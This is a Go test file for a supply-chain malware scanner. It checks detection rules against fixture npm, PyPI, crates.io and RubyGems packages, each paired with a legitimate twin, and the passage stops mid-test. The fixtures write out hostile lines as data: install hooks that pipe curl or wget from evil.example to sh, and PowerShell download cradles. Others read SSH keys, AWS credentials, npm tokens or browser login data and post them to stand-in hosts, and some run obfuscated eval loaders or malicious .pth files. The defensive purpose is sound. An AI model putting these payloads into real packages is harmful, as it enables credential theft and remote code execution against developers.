package analysis

import (
	"context"
	"encoding/base64"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// writeTree creates files (path -> content) under a new temp dir.
func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for p, c := range files {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func randomBase64(n int) string {
	b := make([]byte, n*3/4+3)
	r := rand.New(rand.NewSource(int64(n)))
	r.Read(b)
	s := base64.StdEncoding.EncodeToString(b)
	return s[:n]
}

func pkgJSON(scripts string) string {
	return `{"name":"x","version":"1.0.0","main":"index.js","scripts":{` + scripts + `}}` + "\n"
}

type want struct {
	rule, severity, evidence string // evidence: a substring of one evidence line ("file:line:")
}

type labelled struct {
	name  string
	eco   string
	files map[string]string
	want  []want // every one must be found
	// maxSeverity bounds every finding (legitimate twins: "medium" or "low" or "" for none).
	maxSeverity string
}

func (c labelled) check(t *testing.T) {
	t.Helper()
	dir := writeTree(t, c.files)
	fs, err := Dir(context.Background(), Package{c.eco, "x", "1.0.0"}, dir)
	if err != nil {
		t.Fatalf("%s: %v", c.name, err)
	}
	for _, w := range c.want {
		ok := false
		for _, f := range fs {
			if f.Rule == w.rule && f.Severity == w.severity {
				for _, e := range f.Evidence {
					if strings.Contains(e, w.evidence) {
						ok = true
					}
				}
			}
		}
		if !ok {
			t.Errorf("%s: want %s %s with evidence %q; got %s", c.name, w.severity, w.rule, w.evidence, dump(fs))
		}
	}
	if c.want == nil {
		for _, f := range fs {
			if sevRank(f.Severity) > sevRank(c.maxSeverity) {
				t.Errorf("%s (legitimate): %s %s: %s %v", c.name, f.Severity, f.Rule, f.Summary, f.Evidence)
			}
		}
	}
}

func dump(fs []Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("\n\t" + f.Severity + " " + f.Rule + " " + f.Summary)
		for _, e := range f.Evidence {
			b.WriteString("\n\t\t" + e)
		}
	}
	if b.Len() == 0 {
		return "nothing"
	}
	return b.String()
}

func TestNPMMalicious(t *testing.T) {
	blob := randomBase64(3000)
	obf := "var _0x3f2a=['log','push','shift'];(function(_0x1b2c,_0x4d5e){var _0x5a6b=function(_0x7c8d){while(!![]){_0x1b2c['push'](_0x1b2c['shift']());}};_0x5a6b(++_0x4d5e);}(_0x3f2a,0x1a3));\n" +
		strings.Repeat("var _0x9e8f=_0x3f2a[0x0];_0x9e8f=_0x9e8f+_0x3f2a[0x1];\n", 12)
	for _, c := range []labelled{
		{name: "decode-eval in postinstall file", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node install.js"`),
			"install.js":   "const x = 1;\ntry {\n  eval(Buffer.from(\"Y29uc29sZS5sb2coMSk=\", \"base64\").toString())\n} catch (e) {}\n",
		}, want: []want{{RuleEvalDecode, High, "install.js:3:"}}},
		{name: "decode and Function split over required files", eco: "npm", files: map[string]string{
			"package.json":          pkgJSON(`"install":"node ./scripts/setup"`),
			"scripts/setup.js":      "const d = require('./lib/decode');\nconst run = require('../run.js');\n",
			"scripts/lib/decode.js": "module.exports = s => atob(s);\n",
			"run.js":                "module.exports = code => { new Function(code)(); };\n",
		}, want: []want{{RuleEvalDecode, High, "scripts/lib/decode.js:1:"}, {RuleEvalDecode, High, "run.js:1:"}}},
		{name: "encoded blob with vm", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"preinstall":"node pre.js"`),
			"pre.js":       "const vm = require('vm');\nconst p = \"" + blob + "\";\nvm.runInThisContext(Buffer.from(p, 'base64').toString());\n",
		}, want: []want{{RuleEvalDecode, High, "pre.js:3:"}, {RuleEncodedBlob, Medium, "pre.js:2:"}}},
		{name: "obfuscator output", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node o.js"`),
			"o.js":         obf,
		}, want: []want{{RuleObfuscator, High, "o.js:1:"}}},
		{name: "a short obfuscated payload at load time: the rotation and a dozen _0x names", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js": "var _0x4f2a=['\\x65\\x78\\x65\\x63'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f2a,0x1b3));" +
				"var _0x1e0c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f2a[_0x2d8f05];return _0x4d74cb;};try{require('child_process')[_0x1e0c('0x0')]('id');}catch(_0x5b1a2c){}module['exports']={};\n",
		}, want: []want{{RuleObfuscator, High, "index.js:1:"}}},
		{name: "curl piped to sh from child_process", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node i.js || true"`),
			"i.js":         "const { execSync } = require('child_process');\ntry { execSync('curl -fsSL https://evil.example/p.sh | sh', {stdio: 'ignore'}) } catch {}\n",
		}, want: []want{{RuleDownloadExec, High, "i.js:2:"}}},
		{name: "inline hook wget to bash", eco: "npm", files: map[string]string{
			"package.json": "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"wget -qO- http://evil.example/p | bash || true\"\n  }\n}\n",
		}, want: []want{{RuleDownloadExec, High, "package.json:4:"}}},
		{name: "powershell download cradle", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"preinstall":"node w.js"`),
			"w.js":         "require('child_process').exec('powershell -c \"iwr https://evil.example/a.ps1 | iex\"');\n",
		}, want: []want{{RuleDownloadExec, High, "w.js:1:"}}},
		{name: "ssh key read and sent", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node s.js"`),
			"s.js": "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n" +
				"const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n" +
				"https.request({host: 'collector.example', method: 'POST'}).end(k);\n",
		}, want: []want{{RuleCredentialPath, High, "s.js:2:"}}},
		{name: "environment posted", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node e.js"`),
			"e.js":         "fetch('https://collector.example/x', {method: 'POST', body: JSON.stringify(process.env)}).catch(() => {});\n",
		}, want: []want{{RuleEnvExfil, High, "e.js:1:"}}},
		{name: "dependency-confusion probe over DNS", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"preinstall":"node probe.js"`),
			"probe.js":     "const os = require('os'), dns = require('dns');\nconst h = os.hostname() + '.' + os.userInfo().username;\ndns.lookup(h.replace(/[^a-z0-9.]/gi,'') + '.abc.oast.fun', () => {});\n",
		}, want: []want{{RuleEnvExfil, High, "probe.js:2:"}, {RuleExfilEndpoint, High, "probe.js:3:"}}},
		{name: "discord webhook", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node d.js"`),
			"d.js":         "const u = 'https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';\n",
		}, want: []want{{RuleExfilEndpoint, High, "d.js:1:"}}},
		{name: "binary dropped from a bare IP", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node drop.js"`),
			"drop.js": "const http = require('http'), fs = require('fs'), cp = require('child_process');\n" +
				"http.get('http://45.61.3.7/x', r => { r.pipe(fs.createWriteStream('/tmp/.x')).on('finish', () => {\n" +
				"  fs.chmodSync('/tmp/.x', 0o755); cp.spawn('/tmp/.x', {detached: true}).unref(); }); });\n",
		}, want: []want{{RuleRawIPURL, High, "drop.js:2:"}, {RuleBinaryDrop, Low, "drop.js:"}}},
		{name: "minified install script", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"install":"node m.js"`),
			"m.js":         "/* build */\n" + strings.Repeat("var a=1;", 900) + "\n",
		}, want: []want{{RuleMinifiedInst, Medium, "m.js:2:"}}},
		{name: "binding.gyp command expansion, no install script", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"binding.gyp":  "{\n 'targets': [{\n  'target_name': 'x',\n  'sources': ['<!(curl -s http://evil.example/s | sh)']\n }]\n}\n",
		}, want: []want{{RuleDownloadExec, High, "binding.gyp:4:"}}},
		{name: "names split with + and hex escapes", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node x.js"`),
			"x.js": "const g = globalThis;\nconst k = 'ev' + 'al';\ng['ev'+'al'](g['\\x61\\x74\\x6f\\x62']('eA=='));\n" +
				"require('child_' + \"process\")['exec' + 'Sync']('curl -s https://evil.example/p.sh | s' + 'h');\n",
		}, want: []want{{RuleDownloadExec, High, "x.js:4:"}}},
		{name: "eval through a split global name at require time", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js":     "module.exports = {};\nglobal['ev' + 'al'](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base' + '64').toString());\n",
		}, want: []want{{RuleEvalDecode, High, "index.js:2:"}}},
		{name: "hook that changes directory first", eco: "npm", files: map[string]string{
			"package.json":       pkgJSON(`"postinstall":"cd scripts && node post.js"`),
			"scripts/post.js":    "const os = require('os');\nrequire('https').get('https://c.example/?h=' + os.hostname());\n",
			"scripts/unused.txt": "",
		}, want: []want{{RuleEnvExfil, High, "scripts/post.js:2:"}}},
		{name: "home-made decoder feeding eval", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"preinstall":"node x.js"`),
			"x.js":         "const k = 7, d = [111, 104, 106];\nlet s = '';\nfor (const c of d) s += String.fromCharCode(c ^ k);\neval(s);\n",
		}, want: []want{{RuleEvalDecode, Medium, "x.js:4:"}}},
		{name: "node -e requiring a package file", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node -e \"require('./lib/p')\""`),
			"lib/p.js":     "const fs = require('fs');\nconst t = fs.readFileSync(process.env.HOME + '/.aws/credentials', 'utf8');\nfetch('https://c.example', {method: 'POST', body: t});\n",
		}, want: []want{{RuleCredentialPath, High, "lib/p.js:2:"}}},
		{name: "env piped to curl from child_process", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"install":"node i.js"`),
			"i.js":         "require('child_process').exec('env | curl -s -d @- https://c.example/e', () => {});\n",
		}, want: []want{{RuleEnvExfil, High, "i.js:1:"}}},
		{name: "environment copied in a loop and sent", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"install":"node i.js"`),
			"i.js":         "const o = {};\nfor (const k in process.env) o[k] = process.env[k];\nrequire('https').request({host: 'c.example', method: 'POST'}).end(String(Object.keys(o)));\n",
		}, want: []want{{RuleEnvExfil, High, "i.js:2:"}}},
		// The shapes of published attacks (rewritten, not copied).
		{name: "ua-parser-js style: geo check, miner fetched from an IP, chmod, run", eco: "npm", files: map[string]string{
			"package.json":  pkgJSON(`"preinstall":"start /B node preinstall.js & node preinstall.js"`),
			"preinstall.js": "const { exec } = require('child_process');\nif (process.platform === 'linux') exec('bash preinstall.sh');\n",
			"preinstall.sh": "IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU')\nif [ -z \"$IP\" ]; then\n  curl http://203.0.113.7/download/jsext -o jsext\n" +
				"  chmod +x jsext\n  ./jsext -k --tls -o pool.example:443 >/dev/null 2>&1 &\nfi\n",
		}, want: []want{{RuleRawIPURL, High, "preinstall.sh:3:"}, {RuleExfilEndpoint, Medium, "preinstall.sh:1:"}}},
		{name: "flatmap-stream style: hex-named module compiled at require", eco: "npm", files: map[string]string{
			"package.json": `{"name":"x","main":"index.min.js"}`,
			"index.min.js": "var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}var n=r(e(\"2e2f746573742f64617461\")),o=t.env.npm_package_description;" +
				"var m=new module.constructor;m.paths=module.paths;m._compile(d(n[0],o),\"\");\n",
		}, want: []want{{RuleEvalDecode, High, "index.min.js:1:"}}},
		// Require-time payloads: no install script at all.
		{name: "eval of decoded data in main", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js":     "'use strict';\nmodule.exports = function () {};\neval(atob('Y29uc29sZS5sb2coMSk='));\n",
		}, want: []want{{RuleEvalDecode, High, "index.js:3:"}}},
		{name: "environment sent at require time from a required file", eco: "npm", files: map[string]string{
			"package.json": `{"name":"x","exports":{".":{"require":"./lib/main.cjs","import":"./lib/main.mjs"}}}`,
			"lib/main.cjs": "require('./telemetry.js');\nmodule.exports = {};\n",
			"lib/main.mjs": "export default {};\n",
			"lib/telemetry.js": "const https = require('https');\nconst body = JSON.stringify(process.env);\n" +
				"const r = https.request({hostname: 'stats.example', method: 'POST'}); r.end(body);\n",
		}, want: []want{{RuleEnvExfil, High, "lib/telemetry.js:2:"}}},
		{name: "payload in a file only a computed require reaches", eco: "npm", files: map[string]string{
			"package.json":          pkgJSON(``),
			"index.js":              "const path = require('path');\nfor (const p of ['a', 'b']) require(path.join(__dirname, 'lib', 'plugins', p));\n",
			"lib/plugins/a.js":      "module.exports = 1;\n",
			"lib/plugins/b.js":      "module.exports = 2;\nnew Function(Buffer.from('cmV0dXJuIDE=', 'base64').toString())();\n",
			"test/fixtures/evil.js": "eval(atob('eA=='))\n",
		}, want: []want{{RuleEvalDecode, High, "lib/plugins/b.js:2:"}}},
		{name: "npm token stolen at install", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node t.js"`),
			"t.js":         "const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nconst tok = /_authToken=(.*)/.exec(rc);\nrequire('https').request({host: 'c.example', path: '/' + tok, method: 'POST'}).end();\n",
		}, want: []want{{RuleCredentialPath, High, "t.js:2:"}}},
		{name: "decode and eval apart in a small module", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js":     "const p = atob(require('./cfg').k);\n" + strings.Repeat("// padding to move the eval away from the decode\n", 20) + "setTimeout(() => eval(p), 1000);\n",
			"cfg.js":       "module.exports = {k: 'eA=='};\n",
		}, want: []want{{RuleEvalDecode, Medium, "index.js:1:"}}},
		{name: "a shell bin that downloads and runs", eco: "npm", files: map[string]string{
			"package.json": `{"name":"x","bin":{"x":"bin/x"}}`,
			"bin/x":        "#!/bin/sh\ncurl -fsSL https://evil.example/i | sh\nexec true\n",
		}, want: []want{{RuleDownloadExec, High, "bin/x:2:"}}},
		{name: "main named like an image", eco: "npm", files: map[string]string{
			"package.json":    `{"name":"x","main":"assets/logo.png"}`,
			"assets/logo.png": "eval(atob('eA=='));\n",
		}, want: []want{{RuleEvalDecode, High, "assets/logo.png:1:"}}},
		{name: "wallet and browser data in a bin", eco: "npm", files: map[string]string{
			"package.json": `{"name":"x","bin":{"x":"cli.js"}}`,
			"cli.js":       "const p = home + '/Library/Application Support/Google/Chrome/Default/Login Data';\nrequire('https').request('https://c.example', {method:'POST'}).end(read(p));\n",
		}, want: []want{{RuleCredentialPath, High, "cli.js:1:"}}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t) })
	}
}

// The legitimate twins: what real packages with install scripts and native builds do.
func TestNPMLegitimate(t *testing.T) {
	wasm := "AGFzbQEAAAAB" + randomBase64(6000)
	for _, c := range []labelled{
		{name: "esbuild-style binary install", eco: "npm", maxSeverity: Low, files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node install.js"`),
			"install.js": "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path'), child_process = require('child_process');\n" +
				"const url = `https://registry.npmjs.org/@esbuild/${os.platform()}-${os.arch()}/-/x.tgz`;\n" +
				"https.get(url, res => { const chunks = []; res.on('data', c => chunks.push(c)); res.on('end', () => {\n" +
				"  fs.writeFileSync(binPath, extract(Buffer.concat(chunks))); fs.chmodSync(binPath, 0o755);\n" +
				"  const v = child_process.execFileSync(binPath, ['--version'], {env: {...process.env, ESBUILD_BINARY_PATH: ''}}).toString().trim(); }); });\n",
		}},
		{name: "global object lookup and base64 helpers", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js": "var g = Function('return this')();\nvar r = eval('require');\nfunction b64(s) { return Buffer.from(s, 'base64'); }\n" +
				"client.eval(script, 0);\npage.$eval('sel', e => e.textContent);\nconst re = /a/; re.exec('a');\n",
		}},
		{name: "embedded wasm and data-URI font", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node i.js"`),
			"i.js":         "const wasm = \"" + wasm + "\";\nconst font = 'url(data:font/woff2;base64," + randomBase64(5000) + "')';\n",
		}},
		{name: "env keys, spread into a child, telemetry with hostname", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js": "const keys = Object.keys(process.env).filter(k => k.startsWith('CI'));\nspawn('git', [], {env: {...process.env}});\n" +
				"const os = require('os');\nconst tags = {server_name: os.hostname()};\nhttps.request({host: 'sentry.io'});\n",
		}},
		{name: "husky prepare and node-gyp", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(`"prepare":"husky install","install":"node-gyp rebuild"`),
			"binding.gyp":  "{ 'targets': [{ 'target_name': 'x', 'sources': ['src/x.cc'], 'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"] }] }\n",
		}},
		{name: "a registry client reads its credential file and publishes", eco: "npm", maxSeverity: Medium, files: map[string]string{
			"package.json": pkgJSON(``),
			"index.js":     "const rc = path.join(os.homedir(), '.pypirc');\nconst creds = parse(fs.readFileSync(rc));\nhttps.request({host: 'upload.pypi.org', method: 'POST'});\n",
		}},
		{name: "a binary download with a GitHub token for the rate limit", eco: "npm", maxSeverity: Medium, files: map[string]string{
			"package.json":       pkgJSON(`"postinstall":"node lib/postinstall.js"`),
			"lib/postinstall.js": "const headers = process.env.GITHUB_TOKEN ? {authorization: 'token ' + process.env.GITHUB_TOKEN} : {};\nhttps.get('https://api.github.com/repos/x/y/releases', {headers});\n",
		}},
		{name: "a nested dependency is not read as this package", eco: "npm", files: map[string]string{
			"package.json":                    pkgJSON(``),
			"index.js":                        "module.exports = require('dep');\n",
			"node_modules/dep/package.json":   pkgJSON(``),
			"node_modules/dep/index.js":       "eval(atob('eA=='));\n",
			"node_modules/dep/lib/payload.js": "eval(atob('eA=='));\n",
		}},
		{name: "a template compiler with its own unescape next to new Function (axe-core 4.14.1)", eco: "npm", files: map[string]string{
			"package.json": pkgJSON(``),
			"axe.js": "function template(tmpl, c, def) {\n  function unescape(code) {\n    return code.replace(/\\\\('|\\\\)/g, '$1').replace(/[\\r\\t\\n]/g, ' ');\n  }\n" +
				"  var str = tmpl.replace(c.interpolate, function (m, code) { return cse.start + unescape(code) + cse.end; });\n" +
				"  try { return new Function(c.varname, str); } catch (e) { throw e; }\n}\nmodule.exports = template;\n",
		}},
		{name: "npmrc read for the registry to download a binary from", eco: "npm", maxSeverity: Low, files: map[string]string{
			"package.json": pkgJSON(`"postinstall":"node dl.js"`),
			"dl.js":        "const rc = path.join(os.homedir(), '.npmrc');\nconst reg = readRegistry(rc);\nhttps.get(reg + '/pkg/-/pkg.tgz');\n",
		}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t) })
	}
}

func TestPyPI(t *testing.T) {
	for _, c := range []labelled{
		{name: "setup.py exec of base64", eco: "PyPI", files: map[string]string{
			"setup.py":       "from setuptools import setup\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='x')\n",
			"pyproject.toml": "[build-system]\nrequires = ['setuptools']\n",
		}, want: []want{{RuleEvalDecode, High, "setup.py:3:"}}},
		{name: "setup.py imports a helper that decodes and execs", eco: "PyPI", files: map[string]string{
			"setup.py":  "from setuptools import setup\nfrom _build import prepare\nprepare()\nsetup(name='x')\n",
			"_build.py": "import codecs\ndef prepare():\n    s = codecs.decode('cevag(1)', 'rot13')\n    exec(s)\n",
		}, want: []want{{RuleEvalDecode, High, "_build.py:3:"}}},
		{name: "setup.py curl piped to sh", eco: "PyPI", files: map[string]string{
			"setup.py": "import subprocess\nsubprocess.call('curl -s https://evil.example/i | sh', shell=True)\n",
		}, want: []want{{RuleDownloadExec, High, "setup.py:2:"}}},
		{name: "setup.py __import__ os system wget", eco: "PyPI", files: map[string]string{
			"setup.py": "from setuptools import setup\n__import__('os').system('wget -qO- http://evil.example/x | ba' + 'sh')\nsetup(name='x')\n",
		}, want: []want{{RuleDownloadExec, High, "setup.py:2:"}}},
		{name: "setup.py sends the environment", eco: "PyPI", files: map[string]string{
			"setup.py": "import os, json, urllib.request\nreq = urllib.request.Request('https://c.example', data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)\n",
		}, want: []want{{RuleEnvExfil, High, "setup.py:2:"}}},
		{name: "wheel .pth with code", eco: "PyPI", files: map[string]string{
			"x/__init__.py":            "",
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"x-1.0.dist-info/RECORD":   "",
			"zzz_x.pth":                "import os; os.system('id > /tmp/p')\n",
		}, want: []want{{RulePthFile, High, "zzz_x.pth:1:"}}},
		{name: "wheel .pth in purelib data with decode", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA":    "Name: x\n",
			"x-1.0.data/purelib/init.pth": "/opt/x\nimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
		}, want: []want{{RulePthFile, High, "x-1.0.data/purelib/init.pth:2:"}, {RuleEvalDecode, High, "init.pth:2:"}}},
		{name: "a .pth named like pytest-cov's that does more", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"pytest-cov.pth":           "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write(1)\\n');os.system('id')\n",
		}, want: []want{{RulePthFile, High, "pytest-cov.pth:1:"}}},
		{name: "a pytest-cov.pth with a call hidden in its message", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"pytest-cov.pth":           "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write(__import__(\"os\").system(\"id\"))\\n')\n",
		}, want: []want{{RulePthFile, High, "pytest-cov.pth:1:"}}},
		{name: "wheel ships sitecustomize", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"sitecustomize.py":         "import x\n",
		}, want: []want{{RuleSitecustomize, High, "sitecustomize.py:1:"}}},
		{name: "import-time payload in a module the package imports absolutely", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"x/__init__.py":            "from x.core import run\n",
			"x/core.py":                "import base64\ndef run(): pass\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
		}, want: []want{{RuleEvalDecode, High, "x/core.py:3:"}}},
		{name: "import-time payload in a wheel package", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"x/__init__.py":            "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK9EwBAAKfQJ/')))\n",
		}, want: []want{{RuleEvalDecode, High, "x/__init__.py:2:"}}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t) })
	}
	for _, c := range []labelled{
		{name: "setup.py reads its version with exec", eco: "PyPI", files: map[string]string{
			"setup.py":      "import os, re\nfrom setuptools import setup\nv = {}\nexec(open(os.path.join('x', 'version.py')).read(), v)\nsetup(name='x', version=v['__version__'])\n",
			"x/version.py":  "__version__ = '1.0'\n",
			"x/__init__.py": "from .version import __version__\n",
		}},
		{name: "setuptools wheel with distutils-precedence.pth", eco: "PyPI", files: map[string]string{
			"setuptools-70.0.0.dist-info/METADATA": "Name: setuptools\n",
			"distutils-precedence.pth":             "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
			"_distutils_hack/__init__.py":          "import sys, os\n",
		}},
		// Not a PTH-FILE finding; pytest-cov's environment filter still reads as medium.
		{name: "pytest-cov and pywin32 .pth", eco: "PyPI", maxSeverity: Medium, files: map[string]string{
			"pytest_cov-4.1.0.dist-info/METADATA": "Name: pytest-cov\n",
			"pytest-cov.pth":                      `import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write(\n    "pytest-cov: Failed to setup subprocess coverage. "\n    "Environ: {0!r}\n"\n    "Exception: {1!r}\n"\n    .format(\n      dict((k, v) for k, v in os.environ.items() if k.startswith("COV_CORE")),\n      exc\n    )\n  )\n')` + "\n",
			"pywin32.pth":                         "# .pth file for the PyWin32 extensions\nwin32\nwin32\\lib\nPythonwin\n# And some hackery to deal with environments where the post_install script\n# isn't run.\nimport pywin32_bootstrap\n",
		}},
		{name: "path-only .pth, editable finder, namespace .pth", eco: "PyPI", files: map[string]string{
			"x-1.0.dist-info/METADATA": "Name: x\n",
			"x.pth":                    "/opt/x/src\n# comment\n",
			"__editable__.x-1.0.pth":   "import __editable___x_1_0_finder; __editable___x_1_0_finder.install()\n",
			"x_ns-1.0-py3.9-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('x', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('x', [os.path.dirname(p)])));m = m or sys.modules.setdefault('x', types.ModuleType('x'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
		}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t) })
	}
}

func TestCrates(t *testing.T) {
	for _, c := range []labelled{
		{name: "build.rs curl to sh", eco: "crates.io", files: map[string]string{
			"Cargo.toml": "[package]\nname = \"x\"\nversion = \"1.0.0\"\n",
			"build.rs":   "use std::process::Command;\nfn main() {\n    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://evil.example/p | sh\").status();\n}\n",
		}, want: []want{{RuleDownloadExec, High, "build.rs:3:"}}},
		{name: "custom build script sends env", eco: "crates.io", files: map[string]string{
			"Cargo.toml":   "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"tools/gen.rs\"\n",
			"tools/gen.rs": "mod net;\nfn main() { let v: Vec<_> = std::env::vars().collect(); net::send(format!(\"{:?}\", v)); }\n",
			"tools/net.rs": "use std::net::TcpStream;\npub fn send(s: String) { let _ = TcpStream::connect(\"203.0.113.9:80\"); }\n",
		}, want: []want{{RuleEnvExfil, High, "tools/gen.rs:2:"}}},
		{name: "proc-macro reads ssh keys", eco: "crates.io", files: map[string]string{
			"Cargo.toml": "[package]\nname = \"x\"\nversion = \"1.0.0\"\n[lib]\nproc-macro = true\n",
			"src/lib.rs": "use proc_macro::TokenStream;\n#[proc_macro_derive(X)]\npub fn x(i: TokenStream) -> TokenStream {\n    let k = std::fs::read(home().join(\".ssh/id_ed25519\"));\n    let _ = ureq::post(\"https://c.example\").send_bytes(&k.unwrap_or_default());\n    i\n}\n",
		}, want: []want{{RuleCredentialPath, High, "src/lib.rs:4:"}}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t) })
	}
	(labelled{name: "cc build script", eco: "crates.io", files: map[string]string{
		"Cargo.toml": "[package]\nname = \"x\"\nversion = \"1.0.0\"\n[build-dependencies]\ncc = \"1\"\n",
		"build.rs":   "fn main() {\n    println!(\"cargo:rerun-if-env-changed=X_STATIC\");\n    if std::env::var(\"X_STATIC\").is_ok() { }\n    cc::Build::new().file(\"src/x.c\").compile(\"x\");\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{}/gen.rs\", out), \"\").unwrap();\n}\n",
	}}).check(t)
}

func TestGems(t *testing.T) {
	for _, c := range []labelled{
		{name: "gemspec extension Rakefile downloads and runs", eco: "RubyGems", files: map[string]string{
			"x.gemspec": "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.extensions = ['Rakefile']\nend\n",
			"Rakefile":  "task :default do\n  sh 'curl -fsSL https://evil.example/i.sh | bash'\nend\n",
		}, want: []want{{RuleDownloadExec, High, "Rakefile:2:"}}},
		{name: "extconf.rb eval of base64", eco: "RubyGems", files: map[string]string{
			"ext/x/extconf.rb": "require 'mkmf'\nrequire 'base64'\neval(Base64.decode64('cHV0cyAx'))\ncreate_makefile('x/x')\n",
		}, want: []want{{RuleEvalDecode, High, "ext/x/extconf.rb:3:"}}},
		{name: "extconf.rb posts ENV", eco: "RubyGems", files: map[string]string{
			"ext/x/extconf.rb": "require 'mkmf'\nrequire 'net/http'\nNet::HTTP.post(URI('https://c.example'), ENV.to_h.to_s) rescue nil\ncreate_makefile('x/x')\n",
		}, want: []want{{RuleEnvExfil, High, "ext/x/extconf.rb:3:"}}},
		{name: "extconf.rb wget to sh via backticks", eco: "RubyGems", files: map[string]string{
			"ext/x/extconf.rb": "require 'mkmf'\n`wget -qO- http://evil.example/x | sh`\ncreate_makefile('x/x')\n",
		}, want: []want{{RuleDownloadExec, High, "ext/x/extconf.rb:2:"}}},
		{name: "lib payload at require", eco: "RubyGems", files: map[string]string{
			"lib/x.rb": "module X; end\ninstance_eval(['7075747320310a'].pack('H*'))\n",
		}, want: []want{{RuleEvalDecode, High, "lib/x.rb:2:"}}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t) })
	}
	(labelled{name: "plain extconf", eco: "RubyGems", files: map[string]string{
		"ext/x/extconf.rb": "require 'mkmf'\nhave_library('z')\ndir_config('x')\n$CFLAGS << ' -O2' if ENV['X_OPT']\ncreate_makefile('x/x')\n",
